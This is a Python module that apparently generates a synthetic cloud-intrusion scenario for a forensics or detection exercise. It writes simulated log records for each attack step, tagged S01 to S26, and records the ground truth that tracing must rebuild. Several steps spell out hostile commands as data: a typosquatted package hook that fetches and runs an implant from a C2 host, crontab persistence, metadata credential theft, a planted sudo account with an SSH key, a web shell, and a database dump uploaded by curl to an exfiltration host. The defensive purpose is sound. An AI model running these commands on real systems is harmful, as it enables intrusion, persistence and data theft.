"""The incident, step by step (the steps are described in :mod:`trailguard.demo.truth`).

A developer on the build server installs a typosquatted SDK; its install hook starts an implant
that beacons home and steals the developer's AccessKey and the instance role's token. From
outside, the intruder explores the account, makes a backdoor administrator, opens SSH to the
internet, uses Cloud Assistant to plant an account on two servers, tampers with nginx to run a
web shell, dumps and uploads the customer database, pulls the OSS backups, makes the bucket
public and stops ActionTrail; then puts nginx back as it was.
"""

from __future__ import annotations

import base64
import shlex
from dataclasses import replace
from random import Random
from typing import Any

from trailguard.demo.actiontrail import (
    FORBIDDEN,
    UA_CLI_ATTACKER,
    UA_OSSUTIL,
    Actor,
    api_call,
    key_actor,
    role_actor,
)
from trailguard.demo.audit import UNSET, Proc, user_event
from trailguard.demo.benign.hosts import WCHEN_FP, developer_work
from trailguard.demo.clock import MINUTE, SECOND, alnum, iso_z
from trailguard.demo.flows import Flow
from trailguard.demo.plan import Plan
from trailguard.demo.scene import HostScene, Login, Scene
from trailguard.demo.world import (
    ATTACKER_IP,
    BACKUP_BUCKET,
    C2_IP,
    EXFIL_IP,
    GITHUB_IP,
    METADATA_IP,
    OFFICE_IP,
    PYPI_IP,
    REGION,
    TRAIL_NAME,
)

FAKE_REPO = "https://github.com/aIiyun/aliyun-openapi-python-sdk.git"
PIP_TARGET = f"git+{FAKE_REPO}#subdirectory=aliyun-python-sdk-core"
IMPLANT = "/home/wchen/.local/share/.sdk/aliyun-telemetry"
SHELL_PATH = "/var/www/shop/public/static/upload/2026/10/thumb_cache.php"
SHELL_URL = "/static/upload/2026/10/thumb_cache.php"
NGINX_CONF = "/etc/nginx/nginx.conf"
NGINX_BACKUP = "/var/tmp/.nginx.conf.orig"
ATTACKER_AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0"
ATTACKER_KEY_FP = "k3Vq9Rw0mZ2yXc8TbN5uLp1sHj7dFa4eGo6iQwErTyU"
BEACON_INTERVAL = 600


def s(seconds: float) -> int:
    return int(seconds * SECOND)


class Story:
    """Writes the attack into a scene; every record is tagged with its step."""

    def __init__(self, scene: Scene, plan: Plan) -> None:
        self.scene = scene
        self.plan = plan
        self.world = scene.world
        self.rng = Random(f"{scene.world.seed}/story")
        self.build = scene.hosts["build-01"]
        self.web = scene.hosts["web-01"]
        self.db = scene.hosts["db-01"]
        world = self.world
        self.stolen = key_actor(world, "wchen", ATTACKER_IP, UA_CLI_ATTACKER)
        self.stolen_role = role_actor(world, "build-01-role", self.build.host.instance_id,
                                      ATTACKER_IP, UA_CLI_ATTACKER, plan.creds_stolen)
        self.backdoor = key_actor(world, "ops-automation", ATTACKER_IP, UA_CLI_ATTACKER)
        self.invoke_ids = [f"t-sg0{alnum(self.rng, 11)}" for _ in range(2)]
        # What tracing must rebuild, recorded as the story writes it (ground truth "trace").
        self.hops: list[dict[str, Any]] = []
        self.exfiltration: list[dict[str, Any]] = []
        self.command_id = f"c-sg0{alnum(self.rng, 11)}"

    def write(self) -> None:
        self.scene.trail.gaps.append(self.plan.trail_gap)
        login = self.developer_login()
        implant = self.install(login)
        self.beacons(implant)
        self.credentials(implant)
        self.cloud()
        self.assist_targets()
        attacker = self.ssh_in()
        self.web_shell(attacker)
        self.db_exfiltration()
        self.oss_and_trail()
        self.restore(attacker)

    def hop(self, t: int, target: str) -> None:
        """A Cloud Assistant hop from the attacker's server (counted once per target)."""
        if all(hop["to"] != target for hop in self.hops):
            self.hops.append({"from": ATTACKER_IP, "to": target, "method": "cloud-assistant",
                              "time": iso_z(t)})

    def facts(self) -> dict[str, Any]:
        build = self.build.host
        return {
            "entry_point": {"step": "S01", "host": build.name, "instance": build.instance_id,
                            "time": iso_z(self.plan.install)},
            "lateral_movement": self.hops,
            "hop_count": len(self.hops),
            "exfiltration": self.exfiltration,
            "exfiltrated_bytes": sum(item["bytes"] for item in self.exfiltration),
            "not_measurable": [
                "S23's GetObject calls: ActionTrail records no object sizes, so their "
                "volume is not part of exfiltrated_bytes."],
        }

    def api(self, t: int, actor: Actor, service: str, name: str,
            params: dict[str, Any] | None = None, **extra: Any) -> None:
        self.scene.api(t, api_call(self.rng, self.world, t, actor, service, name, params,
                                   **extra))

    # --- build-01 ---------------------------------------------------------------------------

    def developer_login(self) -> Login:
        """wchen's Tuesday morning on build-01 (ordinary work around the one bad command)."""
        plan = self.plan
        end = plan.wchen_login + 195 * MINUTE
        login = self.build.ssh_login(plan.wchen_login, "wchen", OFFICE_IP, end=end,
                                     fingerprint=WCHEN_FP)
        self.scene.flow(Flow(plan.wchen_login - s(0.3), end - plan.wchen_login + s(1),
                             OFFICE_IP, login.port, self.build.host.private_ip, 22, 96_000,
                             410_000))
        developer_work(self.scene, self.build, login, plan.wchen_login + MINUTE,
                       plan.install - 3 * MINUTE, self.rng)
        developer_work(self.scene, self.build, login, plan.install + 6 * MINUTE,
                       plan.wchen_login + 190 * MINUTE, self.rng)
        self.build.typed(login, plan.install - 2 * MINUTE, "cd ~/src/inventory-sync")
        self.build.typed(login, plan.install - 90 * SECOND, "vim requirements.txt",
                         [("vim", "requirements.txt")], cwd="/home/wchen/src/inventory-sync")
        return login

    def install(self, login: Login) -> Proc:
        build, scene, t = self.build, self.scene, self.plan.install
        cwd = "/home/wchen/src/inventory-sync"
        with scene.tagged("S01"):
            build.history(login.user, t, f'pip3 install --user "{PIP_TARGET}"')
            pip = build.exec(t, ("/usr/bin/python3", "/usr/bin/pip3", "install", "--user",
                                 PIP_TARGET), login.shell, comm="pip3", cwd=cwd)
            build_dir = f"/tmp/pip-req-build-{alnum(self.rng, 8)}"
            git = build.exec(t + s(1.1), ("git", "clone", "--filter=blob:none", "--quiet",
                                          FAKE_REPO, build_dir), pip)
            remote = build.exec(t + s(1.2), ("/usr/lib/git-core/git-remote-https", "origin",
                                             FAKE_REPO), git, comm="git-remote-http")
            build.connect(t + s(1.3), remote, GITHUB_IP, 443)
            scene.flow(Flow(t + s(1.3), s(3.8), "172.16.1.10", build.port(), GITHUB_IP, 443,
                            14_200, 5_830_000))
            build.connect(t + s(7.5), pip, PYPI_IP, 443)
            scene.flow(Flow(t + s(7.5), s(2.2), "172.16.1.10", build.port(), PYPI_IP, 443,
                            6_100, 1_240_000))
            backend = build.exec(t + s(11), (
                "/usr/bin/python3", "/usr/lib/python3/dist-packages/pip/_vendor/pyproject_hooks/"
                "_in_process/_in_process.py", "build_wheel", f"/tmp/tmp{alnum(self.rng, 8)}"),
                pip, comm="python3", cwd=build_dir)
        with scene.tagged("S02"):
            t2 = t + s(14)
            payload = (f"curl -fsSL https://{C2_IP}/assets/sdk-telemetry -o {IMPLANT} && "
                       f"chmod +x {IMPLANT} && nohup {IMPLANT} >/dev/null 2>&1 &")
            sh = build.exec(t2, ("/bin/sh", "-c", payload), backend, comm="sh")
            curl = build.exec(t2 + s(0.1), ("curl", "-fsSL",
                                            f"https://{C2_IP}/assets/sdk-telemetry", "-o",
                                            IMPLANT), sh)
            build.connect(t2 + s(0.2), curl, C2_IP, 443)
            scene.flow(Flow(t2 + s(0.2), s(2.6), "172.16.1.10", build.port(), C2_IP, 443,
                            2_300, 2_950_000))
            build.exec(t2 + s(3.0), ("chmod", "+x", IMPLANT), sh)
            started = build.exec(t2 + s(3.1), (IMPLANT,), sh, exe=IMPLANT,
                                 comm="aliyun-telemetr")
        with scene.tagged("S01"):
            build.typed(login, t + s(40), 'python3 -c "import aliyunsdkcore; print('
                        'aliyunsdkcore.__version__)"',
                        [("python3", "-c", "import aliyunsdkcore; print(aliyunsdkcore."
                          "__version__)")], cwd=cwd)
        implant = replace(started, tty="(none)", cwd="/", ppid=1)
        with scene.tagged("S03"):
            t3 = t + s(130)
            entry = f"@reboot {IMPLANT} >/dev/null 2>&1"
            sh = build.exec(t3, ("/bin/sh", "-c", f'(crontab -l 2>/dev/null; echo "{entry}") '
                                 "| crontab -"), implant, comm="sh")
            build.exec(t3 + s(0.01), ("crontab", "-l"), sh)
            crontab = build.exec(t3 + s(0.02), ("crontab", "-"), sh)
            build.open(t3 + s(0.05), crontab, "/var/spool/cron/crontabs/wchen", write=True,
                       key="cron", owner=1000, mode="0100600", created=True)
        with scene.tagged("S04"):
            t4 = t + s(185)
            survey = ("id;uname -a;cat /etc/os-release;ip -4 -o addr;"
                      "ps -eo user,pid,ppid,cmd --sort=start_time;ls -la ~/.aliyun ~/.ssh")
            sh = build.exec(t4, ("/bin/sh", "-c", survey), implant, comm="sh")
            for index, argv in enumerate((
                    ("id",), ("uname", "-a"), ("cat", "/etc/os-release"),
                    ("ip", "-4", "-o", "addr"),
                    ("ps", "-eo", "user,pid,ppid,cmd", "--sort=start_time"),
                    ("ls", "-la", "/home/wchen/.aliyun", "/home/wchen/.ssh"))):
                build.exec(t4 + s(0.02 * (index + 1)), argv, sh)
        return implant

    def beacons(self, implant: Proc) -> None:
        build, rng = self.build, self.rng
        t = self.plan.install + s(240)
        with self.scene.tagged("S05"):
            while t < self.world.end:
                accepted = t < self.plan.quarantine
                build.connect(t, implant, C2_IP, 443, success=accepted)
                if accepted:
                    self.scene.flow(Flow(t, s(rng.uniform(0.6, 1.6)), "172.16.1.10",
                                         build.port(), C2_IP, 443, rng.randint(1_500, 2_600),
                                         rng.randint(3_800, 6_500)))
                else:
                    self.scene.flow(Flow(t, s(3), "172.16.1.10", build.port(), C2_IP, 443, 60,
                                         0, action="REJECT"))
                t += s(BEACON_INTERVAL + rng.uniform(-90, 90))

    def credentials(self, implant: Proc) -> None:
        build, t = self.build, self.plan.creds_stolen
        with self.scene.tagged("S06"):
            build.open(t, implant, "/home/wchen/.aliyun/config.json", write=False,
                       key="cloud_creds", owner=1000, mode="0100600")
        with self.scene.tagged("S07"):
            base = f"http://{METADATA_IP}/latest/meta-data/ram/security-credentials/"
            for offset, url in ((40, base), (43, base + "build-01-role")):
                sh = build.exec(t + s(offset), ("/bin/sh", "-c", f"curl -s {url}"), implant,
                                comm="sh")
                curl = build.exec(t + s(offset + 0.01), ("curl", "-s", url), sh)
                build.connect(t + s(offset + 0.02), curl, METADATA_IP, 80)

    # --- the account ------------------------------------------------------------------------

    def cloud(self) -> None:
        plan, world, rng = self.plan, self.world, self.rng
        account = world.account_id
        wchen = world.users["wchen"]
        with self.scene.tagged("S08"):
            self.api(plan.first_use, self.stolen, "sts", "GetCallerIdentity", response={
                "AccountId": account, "UserId": wchen.principal_id,
                "Arn": f"acs:ram::{account}:user/wchen", "IdentityType": "RAMUser",
                "PrincipalId": wchen.principal_id})
            role = world.roles["build-01-role"]
            instance = self.build.host.instance_id
            self.api(plan.first_use + s(52), self.stolen_role, "sts", "GetCallerIdentity",
                     response={"AccountId": account, "RoleId": role.role_id,
                               "Arn": f"acs:ram::{account}:assumed-role/build-01-role/"
                                      f"{instance}", "IdentityType": "AssumedRoleUser",
                               "PrincipalId": f"{role.role_id}:{instance}"})
        with self.scene.tagged("S09"):
            t = plan.discovery
            for actor, service, name, params, extra in self.discovery_calls():
                self.api(t, actor, service, name, params, **extra)
                t += s(rng.uniform(2.5, 12))
        ops = world.users["ops-automation"]
        resource = {"ACS::RAM::User": ["ops-automation"]}
        with self.scene.tagged("S10"):
            self.api(plan.backdoor_user, self.stolen, "ram", "CreateUser",
                     {"UserName": "ops-automation", "DisplayName": "ops-automation",
                      "Comments": "automation account"}, resources=resource,
                     response={"User": {"UserName": "ops-automation", "UserId": ops.principal_id,
                                        "DisplayName": "ops-automation"}})
        with self.scene.tagged("S11"):
            self.api(plan.backdoor_user + s(38), self.stolen, "ram", "CreateAccessKey",
                     {"UserName": "ops-automation"}, resources=resource,
                     response={"AccessKey": {"AccessKeyId": ops.access_key, "Status": "Active"}})
            self.api(plan.backdoor_user + s(150), self.backdoor, "sts", "GetCallerIdentity",
                     response={"AccountId": account, "UserId": ops.principal_id,
                               "Arn": f"acs:ram::{account}:user/ops-automation",
                               "IdentityType": "RAMUser", "PrincipalId": ops.principal_id})
        with self.scene.tagged("S12"):
            self.api(plan.backdoor_user + s(71), self.stolen, "ram", "AttachPolicyToUser",
                     {"PolicyType": "System", "PolicyName": "AdministratorAccess",
                      "UserName": "ops-automation"}, resources=resource)
            self.api(plan.backdoor_user + s(163), self.backdoor, "ram", "ListPoliciesForUser",
                     {"UserName": "ops-automation"}, resources=resource)
        web_sg = self.web.host.security_group
        with self.scene.tagged("S13"):
            for offset, ports in ((0, "22/22"), (21, "3389/3389")):
                self.api(plan.sg_opened + s(offset), self.backdoor, "ecs",
                         "AuthorizeSecurityGroup",
                         {"SecurityGroupId": web_sg, "IpProtocol": "tcp", "PortRange": ports,
                          "SourceCidrIp": "0.0.0.0/0", "Policy": "accept", "Priority": "1",
                          "NicType": "intranet", "Description": ""},
                         resources={"ACS::ECS::SecurityGroup": [web_sg]})

    def discovery_calls(self) -> list[tuple[Actor, str, str, dict[str, Any] | None,
                                            dict[str, Any]]]:
        world, stolen = self.world, self.stolen
        hosts = [host.host for host in self.scene.hosts.values()]
        calls: list[tuple[Actor, str, str, dict[str, Any] | None, dict[str, Any]]] = [
            (stolen, "ecs", "DescribeRegions", None, {}),
        ]
        for region in (REGION, "cn-hangzhou", "cn-shanghai", "cn-hongkong", "us-west-1",
                       "eu-central-1"):
            calls.append((stolen, "ecs", "DescribeInstances",
                          {"PageSize": "100", "PageNumber": "1"}, {"region": region}))
        calls.append((stolen, "ecs", "DescribeSecurityGroups", {"PageSize": "50"}, {}))
        for host in hosts:
            calls.append((stolen, "ecs", "DescribeSecurityGroupAttribute",
                          {"SecurityGroupId": host.security_group},
                          {"resources": {"ACS::ECS::SecurityGroup": [host.security_group]}}))
        calls += [
            (stolen, "vpc", "DescribeVpcs", None, {}),
            (stolen, "vpc", "DescribeVSwitches", {"VpcId": world.vpc_id}, {}),
            (stolen, "vpc", "DescribeEipAddresses", None, {}),
            (stolen, "vpc", "DescribeNatGateways", {"VpcId": world.vpc_id}, {}),
            (stolen, "ecs", "DescribeDisks", {"PageSize": "100"}, {}),
            (stolen, "ecs", "DescribeSnapshots", None, {}),
            (stolen, "ecs", "DescribeKeyPairs", None, {}),
            (stolen, "ecs", "DescribeCloudAssistantStatus",
             {"InstanceId": [host.instance_id for host in hosts]}, {}),
            (stolen, "ecs", "DescribeCommands", None, {}),
            (stolen, "ram", "GetAccountAlias", None, {}),
            (stolen, "ram", "ListUsers", {"MaxItems": "100"}, {}),
            (stolen, "ram", "ListGroups", None, {}),
            (stolen, "ram", "ListRoles", {"MaxItems": "100"}, {}),
            (stolen, "ram", "ListPolicies", {"PolicyType": "Custom"}, {}),
            (stolen, "ram", "GetUser", {"UserName": "wchen"}, {}),
            (stolen, "ram", "ListPoliciesForUser", {"UserName": "wchen"}, {}),
            (stolen, "ram", "ListAccessKeys", {"UserName": "wchen"}, {}),
            (stolen, "ram", "ListEntitiesForPolicy",
             {"PolicyType": "System", "PolicyName": "AdministratorAccess"}, {}),
            (self.stolen_role, "oss", "GetService", None, {}),
            (stolen, "oss", "GetBucketInfo", {"BucketName": BACKUP_BUCKET},
             {"resources": {"ACS::OSS::Bucket": [BACKUP_BUCKET]}}),
            (stolen, "actiontrail", "DescribeTrails", None, {}),
            (stolen, "actiontrail", "GetTrailStatus", {"Name": TRAIL_NAME}, {}),
            (stolen, "rds", "DescribeDBInstances", None, {"error": FORBIDDEN}),
            (stolen, "kms", "ListKeys", None, {"error": FORBIDDEN}),
            (stolen, "sas", "DescribeVersionConfig", None, {"error": FORBIDDEN}),
            (stolen, "ram", "ListVirtualMFADevices", None, {}),
            (stolen, "ecs", "DescribeImages", {"ImageOwnerAlias": "self"}, {}),
        ]
        return calls

    # --- web-01 and db-01 -------------------------------------------------------------------

    def assist_targets(self) -> None:
        plan, web, db = self.plan, self.web.host, self.db.host
        script = ("#!/bin/bash\nid sysbackup >/dev/null 2>&1 || useradd -m -s /bin/bash "
                  "sysbackup\nusermod -aG sudo sysbackup\n"
                  "echo 'sysbackup ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/90-sysbackup\n"
                  "chmod 440 /etc/sudoers.d/90-sysbackup\nmkdir -p /home/sysbackup/.ssh\n"
                  f"echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{alnum(self.rng, 43)} "
                  "backup@ops' >> /home/sysbackup/.ssh/authorized_keys\n"
                  "chmod 700 /home/sysbackup/.ssh\n"
                  "chmod 600 /home/sysbackup/.ssh/authorized_keys\n"
                  "chown -R sysbackup:sysbackup /home/sysbackup/.ssh\n")
        content = base64.b64encode(script.encode()).decode()
        targets = [web.instance_id, db.instance_id]
        t = plan.assist
        with self.scene.tagged("S14"):
            self.api(t, self.backdoor, "ecs", "CreateCommand",
                     {"Name": "sys-health-check", "Type": "RunShellScript",
                      "CommandContent": content, "ContentEncoding": "Base64",
                      "Timeout": "120", "WorkingDir": "/root"},
                     response={"CommandId": self.command_id})
            self.api(t + s(9), self.backdoor, "ecs", "InvokeCommand",
                     {"CommandId": self.command_id, "InstanceId": targets, "Timed": "false"},
                     resources={"ACS::ECS::Instance": targets},
                     response={"InvokeId": self.invoke_ids[0]})
            for offset in (24, 47):
                self.api(t + s(offset), self.backdoor, "ecs", "DescribeInvocationResults",
                         {"InvokeId": self.invoke_ids[0]})
        for host, delay in ((self.web, 11.2), (self.db, 11.9)):
            self.plant_account(host, t + s(delay))
            self.hop(t + s(9), host.host.name)

    def plant_account(self, target: HostScene, t: int) -> None:
        host = target.host
        home = "/home/sysbackup"
        with self.scene.tagged("S14"):
            bash = target.assist_script(t, self.invoke_ids[0])
        with self.scene.tagged("S15"):
            target.exec(t + s(0.02), ("id", "sysbackup"), bash)
            useradd = target.exec(t + s(0.05), ("useradd", "-m", "-s", "/bin/bash", "sysbackup"),
                                  bash)
            uid = host.user("sysbackup").uid
            target.open(t + s(0.08), useradd, "/etc/passwd", write=True, key="identity")
            for offset, kind, op in ((0.09, "ADD_GROUP", "add-group"),
                                     (0.11, "ADD_USER", "add-user"),
                                     (0.13, "USER_MGMT", "add-home-dir")):
                target.audit_event(t + s(offset), user_event(
                    host, kind, pid=useradd.pid, uid=0, auid=UNSET, session=None,
                    message=f'op={op} acct="sysbackup" exe="/usr/sbin/useradd" '
                            f"hostname={host.name} addr=? terminal=? res=success"))
            target.auth_line(t + s(0.09), "useradd", useradd.pid,
                             f"new group: name=sysbackup, GID={uid}")
            target.auth_line(t + s(0.11), "useradd", useradd.pid,
                             f"new user: name=sysbackup, UID={uid}, GID={uid}, home={home}, "
                             "shell=/bin/bash, from=none")
            usermod = target.exec(t + s(0.2), ("usermod", "-aG", "sudo", "sysbackup"), bash)
            for offset, group in ((0.22, "group"), (0.23, "shadow group")):
                target.audit_event(t + s(offset), user_event(
                    host, "USER_MGMT", pid=usermod.pid, uid=0, auid=UNSET, session=None,
                    message='op=add-user-to-group grp="sudo" acct="sysbackup" '
                            f'exe="/usr/sbin/usermod" hostname={host.name} addr=? terminal=? '
                            "res=success"))
                target.auth_line(t + s(offset), "usermod", usermod.pid,
                                 f"add 'sysbackup' to {group} 'sudo'")
            target.open(t + s(0.25), bash, "/etc/sudoers.d/90-sysbackup", write=True,
                        key="sudoers", mode="0100644", created=True)
            target.exec(t + s(0.26), ("chmod", "440", "/etc/sudoers.d/90-sysbackup"), bash)
        with self.scene.tagged("S16"):
            target.exec(t + s(0.3), ("mkdir", "-p", f"{home}/.ssh"), bash)
            target.exec(t + s(0.33), ("chmod", "700", f"{home}/.ssh"), bash)
            target.exec(t + s(0.34), ("chmod", "600", f"{home}/.ssh/authorized_keys"), bash)
            target.exec(t + s(0.36), ("chown", "-R", "sysbackup:sysbackup", f"{home}/.ssh"), bash)

    def ssh_in(self) -> Login:
        plan, web = self.plan, self.web
        with self.scene.tagged("S17"):
            port = web.port()
            login = web.ssh_login(plan.ssh_in, "sysbackup", ATTACKER_IP, end=plan.ssh_out,
                                  fingerprint=ATTACKER_KEY_FP, port=port)
            self.scene.flow(Flow(plan.ssh_in - s(0.4), plan.ssh_out - plan.ssh_in + s(0.5),
                                 ATTACKER_IP, port, "172.16.2.20", 22, 183_000, 421_000))
        return login

    def web_shell(self, login: Login) -> None:
        plan, web, scene, rng = self.plan, self.web, self.scene, self.rng
        nginx = self.scene.web
        with scene.tagged("S18"):
            t = plan.webshell
            curl = web.sudo(login, t, ("curl", "-s", "-o", SHELL_PATH,
                                       f"http://{C2_IP}/s/t.txt"), duration=s(1))
            web.connect(t + s(0.05), curl, C2_IP, 80)
            scene.flow(Flow(t + s(0.05), s(0.7), "172.16.2.20", web.port(), C2_IP, 80, 420,
                            5_300))
            web.sudo(login, t + s(9), ("chown", "www-data:www-data", SHELL_PATH),
                     duration=s(0.3))
            probe = t + s(44)
            self.web_request(probe, "GET", SHELL_URL, 403, 162)
            scene.flow(Flow(probe - s(0.3), s(1.1), ATTACKER_IP, web.port(), "172.16.2.20", 443,
                            1_150, 2_300))
            nginx.error_line(probe, "error", "access forbidden by rule", client=ATTACKER_IP,
                             request=f"GET {SHELL_URL} HTTP/1.1")
        with scene.tagged("S19"):
            t = plan.tamper
            web.sudo(login, t, ("cp", NGINX_CONF, NGINX_BACKUP), duration=s(0.2))
            for attempt, (offset, lines) in enumerate(((6, "+2d"), (58, "+1d"))):
                moment = t + s(offset)
                sed = f"sed '/location ~\\* \\^\\/static\\/upload\\//,{lines}' {NGINX_BACKUP}"
                sh = web.sudo(login, moment, ("sh", "-c", f"{sed} > /tmp/.n"), duration=s(0.3))
                web.exec(moment + s(0.02), ("sed", f"/location ~\\* \\^\\/static\\/upload\\//,"
                                                   f"{lines}", NGINX_BACKUP), sh)
                cp = web.sudo(login, moment + s(5), ("cp", "/tmp/.n", NGINX_CONF),
                              duration=s(0.2))
                web.open(moment + s(5.02), cp, NGINX_CONF, write=True, key="nginx_conf")
                if attempt == 0:
                    reload = web.sudo(login, moment + s(11), ("nginx", "-s", "reload"),
                                      duration=s(0.2))
                    nginx.error_line(moment + s(11.05), "emerg",
                                     f'unexpected "}}" in {NGINX_CONF}:71', pid=reload.pid)
                else:
                    web.sudo(login, moment + s(9), ("nginx", "-t"), duration=s(0.3))
                    web.sudo(login, moment + s(17), ("nginx", "-s", "reload"), duration=s(0.2))
        with scene.tagged("S20"):
            start = plan.tamper + s(140)
            end = plan.restore - 4 * MINUTE
            self.web_request(start, "GET", SHELL_URL + "?act=ping", 200, 5)
            php = Proc(1398 + rng.randint(3, 9), 1398, 33, "/usr/sbin/php-fpm8.3",
                       ("php-fpm: pool www",), cwd="/var/www/shop/public/static/upload/2026/10")
            commands = ["id", "uname -a", "cat /var/www/shop/.env", "ls -la /var/www/shop",
                        "ps aux", "cat /etc/passwd", "ss -tnp", "df -h",
                        "find /var/www/shop -name *.sql -size +1M",
                        "mysql -h 172.16.3.30 -u shop -pS3cr3t-shop -e 'select count(*) from "
                        "shop.customers'", "ls -la /home", "crontab -l", "cat /etc/nginx/"
                        "nginx.conf", "tail -n 20 /var/log/nginx/access.log"]
            moments = sorted(rng.uniform(start + 30 * SECOND, end) for _ in range(26))
            for index, moment_f in enumerate(moments):
                moment = int(moment_f)
                command = commands[index % len(commands)]
                self.web_request(moment, "POST", SHELL_URL, 200, rng.randint(60, 4_800))
                sh = web.exec(moment + s(0.01), ("sh", "-c", command), php, comm="sh")
                web.exec(moment + s(0.02), tuple(shlex.split(command)), sh)
                if index in (0, 9):
                    nginx.error_line(
                        moment + s(0.03), "error", 'FastCGI sent in stderr: "PHP message: PHP '
                        'Warning:  Undefined array key \\"c\\" in '
                        f'{SHELL_PATH} on line 3" while reading response header from upstream',
                        client=ATTACKER_IP, request=f"POST {SHELL_URL} HTTP/1.1",
                        extra=', upstream: "fastcgi://unix:/run/php/php8.3-fpm.sock:"')
            scene.flow(Flow(start - s(1), end - start + s(60), ATTACKER_IP, web.port(),
                            "172.16.2.20", 443, 96_000, 311_000))

    def web_request(self, t: int, method: str, target: str, status: int, size: int) -> None:
        self.scene.web.hit(t, ATTACKER_IP, method, target, status, size, ATTACKER_AGENT)

    def db_exfiltration(self) -> None:
        plan, db, scene = self.plan, self.db, self.scene
        t = plan.db_dump
        script = ("#!/bin/bash\nmysqldump --defaults-file=/etc/mysql/debian.cnf "
                  "--single-transaction --all-databases | gzip -1 > /var/tmp/.sys-cache.gz\n"
                  "curl -sk --upload-file /var/tmp/.sys-cache.gz "
                  f"https://{EXFIL_IP}/upload/$(hostname).gz\nrm -f /var/tmp/.sys-cache.gz\n")
        target = [db.host.instance_id]
        with scene.tagged("S14"):
            self.api(t, self.backdoor, "ecs", "RunCommand",
                     {"Name": "log-rotate", "Type": "RunShellScript",
                      "CommandContent": base64.b64encode(script.encode()).decode(),
                      "ContentEncoding": "Base64", "Timeout": "3600", "InstanceId": target},
                     resources={"ACS::ECS::Instance": target},
                     response={"CommandId": f"c-sg0{alnum(self.rng, 11)}",
                               "InvokeId": self.invoke_ids[1]})
            for offset in (40, 610, 1_560):
                self.api(t + s(offset), self.backdoor, "ecs", "DescribeInvocationResults",
                         {"InvokeId": self.invoke_ids[1]})
            bash = db.assist_script(t + s(3.5), self.invoke_ids[1])
            self.hop(t, db.host.name)
        with scene.tagged("S21"):
            db.exec(t + s(3.6), ("mysqldump", "--defaults-file=/etc/mysql/debian.cnf",
                                 "--single-transaction", "--all-databases"), bash)
            db.exec(t + s(3.6), ("gzip", "-1"), bash)
        with scene.tagged("S22"):
            upload = t + s(250)
            db.exec(upload, ("curl", "-sk", "--upload-file", "/var/tmp/.sys-cache.gz",
                             f"https://{EXFIL_IP}/upload/db-01.gz"), bash)
            duration = s(1_270)
            sent = 2_146_000_000
            scene.flow(Flow(upload + s(0.1), duration, "172.16.3.30", db.port(), EXFIL_IP, 443,
                            sent, 1_830_000))
            self.exfiltration.append({"destination": EXFIL_IP, "bytes": sent,
                                      "channel": "vpc-flow", "source": db.host.name})
            db.exec(upload + duration + s(0.5), ("rm", "-f", "/var/tmp/.sys-cache.gz"), bash)

    def oss_and_trail(self) -> None:
        plan, rng = self.plan, self.rng
        oss = Actor(self.backdoor.identity, ATTACKER_IP, UA_OSSUTIL)
        bucket = {"ACS::OSS::Bucket": [BACKUP_BUCKET]}
        with self.scene.tagged("S23"):
            # ossutil cp -r with five parallel jobs: a listing per prefix, then the objects.
            moment = plan.oss_pull
            months = [f"2026/{month:02d}" for month in (8, 9, 10)]
            pulls = (("mysql/", [f"mysql/2026-10-{day:02d}/all.sql.gz" for day in (12, 13)]),
                     ("exports/", [f"exports/{name}-2026-09.csv"
                                   for name in ("customers", "orders", "payments")]),
                     ("invoices/", [f"invoices/{month}/INV-{number}.pdf" for month in months
                                    for number in sorted(rng.sample(range(20_000, 29_999),
                                                                    rng.randint(60, 90)))]))
            for prefix, keys in pulls:
                self.api(moment, oss, "oss", "GetBucket",
                         {"BucketName": BACKUP_BUCKET, "prefix": prefix, "max-keys": "1000"},
                         resources=bucket)
                moment += s(rng.uniform(0.3, 0.9))
                for key in keys:
                    self.api(moment, oss, "oss", "GetObject",
                             {"BucketName": BACKUP_BUCKET, "ObjectName": key},
                             resources={"ACS::OSS::Object": [f"{BACKUP_BUCKET}/{key}"]},
                             category="Data")
                    moment += s(rng.uniform(0.05, 0.6))
                moment += s(rng.uniform(20, 90))
        with self.scene.tagged("S24"):
            t = plan.bucket_public
            self.api(t, self.backdoor, "oss", "PutBucketAcl",
                     {"BucketName": BACKUP_BUCKET, "x-oss-acl": "public-read"}, resources=bucket)
            self.api(t + s(31), self.backdoor, "oss", "GetBucketAcl",
                     {"BucketName": BACKUP_BUCKET}, resources=bucket)
        with self.scene.tagged("S25"):
            self.api(plan.logging_stopped, self.backdoor, "actiontrail", "StopLogging",
                     {"Name": TRAIL_NAME}, resources={"ACS::ActionTrail::Trail": [TRAIL_NAME]})

    def restore(self, login: Login) -> None:
        plan, web = self.plan, self.web
        with self.scene.tagged("S26"):
            t = plan.restore
            cp = web.sudo(login, t, ("cp", NGINX_BACKUP, NGINX_CONF), duration=s(0.2))
            web.open(t + s(0.02), cp, NGINX_CONF, write=True, key="nginx_conf")
            web.sudo(login, t + s(20), ("nginx", "-s", "reload"), duration=s(0.2))
            web.sudo(login, t + s(31), ("rm", "-f", SHELL_PATH), duration=s(0.1))
            web.sudo(login, t + s(40), ("rm", "-f", NGINX_BACKUP, "/tmp/.n"), duration=s(0.1))
            check = t + s(185)
            self.web_request(check, "GET", SHELL_URL + "?act=ping", 403, 162)
            self.scene.web.error_line(check, "error", "access forbidden by rule",
                                      client=ATTACKER_IP,
                                      request=f"GET {SHELL_URL}?act=ping HTTP/1.1")
            self.scene.flow(Flow(check - s(0.3), s(1.2), ATTACKER_IP, web.port(), "172.16.2.20",
                                 443, 1_200, 2_400))


def write_story(scene: Scene, plan: Plan) -> dict[str, Any]:
    """Write the attack; return the facts tracing must rebuild (ground truth "trace")."""
    story = Story(scene, plan)
    story.write()
    return story.facts()
